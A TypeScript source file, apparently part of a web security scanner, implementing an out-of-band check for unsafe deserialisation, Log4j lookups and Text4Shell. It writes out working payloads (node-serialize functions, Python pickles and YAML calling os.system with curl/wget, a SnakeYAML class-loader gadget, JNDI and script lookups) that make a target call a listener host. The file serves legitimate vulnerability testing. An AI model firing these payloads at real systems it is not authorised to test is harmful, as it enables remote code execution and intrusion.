// Checks for unsafe deserialisation, proved only by a call that the object makes the target do.

import { percentDecoded } from '../../core/percent.ts'
import type { Context, PointCheck } from '../check.ts'
import { isSettled, settle } from '../found.ts'
import { type CallAddress, expectCall, takesText, textValue } from '../probing.ts'
import type { Operation, Point } from '../types.ts'

/** A fault that nobody takes ends a process of Node: the target must stand where it cannot reach the address. */
const get = (url: string) => `require('http').get('${url}').on('error',String)`
const node = (url: string) => `{"merlon":"_$$ND_FUNC$$_function(){${get(url)}}()"}`
const command = (url: string) =>
  `curl -s ${url}||wget -qO- ${url}||python3 -c "import urllib.request as u;u.urlopen('${url}')"`

/** A pickle of protocol 0 that runs a command: c(module, name) (text) t R. */
const pickle = (url: string) => `cos\nsystem\n(S'${command(url).replaceAll('\\', '\\\\').replaceAll("'", "\\'")}'\ntR.`
const yaml = (url: string) => `!!python/object/apply:os.system ["${command(url).replaceAll('"', '\\"')}"]`
/** SnakeYAML's class loader gadget: it requests a list of services from the address. */
const yamlOfJava = (url: string) =>
  `!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["${url}/"]]]]`
/**
 * The token stands behind the address only once the expression was computed: what calls addresses in texts has it not, as these end at
 * a blank at the latest.
 */
const expression = (host: string, token: string) =>
  `new java.net.URL("http://${host}/" .concat("${token}")).openStream()`
const yamlOfNode = (url: string) => `!!js/function "function(){${get(url)}}()"`
const log = (host: string, token: string) => `\${jndi:ldap://${host}/${token}}`
const text4 = (host: string, token: string) => `\${script:javascript:${expression(host, token)}}`

type Payload = {
  name: string
  cwe: number
  of: (address: CallAddress) => string
  fits: (text: string, point: Point) => boolean
  /** whether running the payload asks for this path, where what shows links in texts asks for another */
  isMade?: (path: string, address: CallAddress) => boolean
}

const isExactly = (path: string, { token }: CallAddress) => path.startsWith(`/${token} `)
const isListOfOffers = (path: string, { token }: CallAddress) => path.startsWith(`/${token}/META-INF/services/`)

/** Values that hold no serialised object. */
const TITLES: Readonly<Record<number, string>> = { 94: 'Code injection', 917: 'Expression lookup injection' }

const isEncoded = (text: string) => /^[A-Za-z0-9+/_-]{16,}={0,2}$/.test(text)
const base64 = (text: string) => Buffer.from(text).toString('base64')

const payloads: readonly Payload[] = [
  { name: 'a node-serialize function', cwe: 502, of: ({ url }) => base64(node(url)), fits: isEncoded },
  {
    name: 'a node-serialize function',
    cwe: 502,
    of: ({ url }) => node(url),
    fits: (text, point) => /^[{[]/.test(text) || point.place === 'file',
  },
  {
    name: 'a pickle',
    cwe: 502,
    of: ({ url }) => base64(pickle(url)),
    fits: (text, point) => isEncoded(text) || /pickle|serial|object|session|state|data|cart/i.test(point.name),
  },
  {
    name: 'a pickle',
    cwe: 502,
    of: ({ url }) => pickle(url),
    fits: (text, point) => /pickle|serial|object/i.test(point.name) || /^\(?[cl]\w{0,40}\n|\.$/.test(text),
  },
  {
    name: 'a YAML object',
    cwe: 502,
    of: ({ url }) => yaml(url),
    fits: (text, point) =>
      point.place === 'file' || /yaml|yml|config|import|data/i.test(point.name) || /^[\w-]{1,60}: /.test(text),
  },
  {
    name: 'a YAML object',
    cwe: 502,
    of: ({ url }) => base64(yaml(url)),
    fits: (text) => isEncoded(text) && /^[\w-]{1,60}: /.test(Buffer.from(text, 'base64').toString('latin1')),
  },
  {
    name: 'a YAML function',
    cwe: 502,
    of: ({ url }) => yamlOfNode(url),
    fits: (text, point) =>
      point.place === 'file' || /yaml|yml|config|import/i.test(point.name) || /^[\w-]{1,60}: /.test(text),
  },
  {
    name: 'a YAML object',
    cwe: 502,
    of: ({ url }) => yamlOfJava(url),
    fits: (text, point) =>
      point.place === 'file' || /yaml|yml|config|import|data|content/i.test(point.name) || /^[\w-]{1,60}: /.test(text),
    isMade: isListOfOffers,
  },
  {
    name: 'a Java expression',
    cwe: 94,
    of: ({ host, token }) => expression(host, token),
    fits: (_, point) => point.place !== 'file',
    isMade: isExactly,
  },
  { name: 'a Log4j lookup', cwe: 917, of: ({ host, token }) => log(host, token), fits: () => true },
  {
    name: 'a Text4Shell script lookup',
    cwe: 94,
    of: ({ host, token }) => text4(host, token),
    fits: () => true,
    isMade: isExactly,
  },
]

/** Paths whose name says that their values are deserialised. */
const wordsOf = ({ path }: Operation): string => path.match(/pickle|serial|yaml|yml/gi)?.join(' ') ?? ''

export const deserialisation: PointCheck = {
  kind: 'point',
  id: 'unsafe-deserialisation',
  title: 'Unsafe deserialization',
  cwes: [502],
  severity: 'CRITICAL',
  solution:
    'Read data with a parser that creates plain values only, never with one that calls constructors or functions.',
  profile: 'BALANCED',
  usesListener: true,
  accepts: (point) => takesText(point) || point.place === 'file',
  async probe(point, operation, context) {
    if (!context.outOfBand) return null
    const isCode = isSettled(94, operation, point, context)
    for (const payload of payloads) {
      if (isCode && payload.cwe === 94) continue
      const told = { ...point, name: `${point.name} ${wordsOf(operation)}` }
      if (payload.fits(percentDecoded(textValue(point)), told)) await send(payload, point, operation, context)
    }
    return null
  },
}

async function send(
  { name, cwe, of, isMade }: Payload,
  point: Point,
  operation: Operation,
  context: Context,
): Promise<void> {
  await expectCall(
    operation,
    context,
    (address) => context.attempt(operation, [{ point, value: of(address) }]),
    (exchange, url) => {
      settle(502, operation, point, context)
      context.report(deserialisation, {
        operation,
        point,
        cwes: [cwe],
        title: TITLES[cwe],
        detail: `The target sent the request that ${name} in the value asks for.`,
        proof: [url],
        exchange,
      })
    },
    isMade,
  )
}
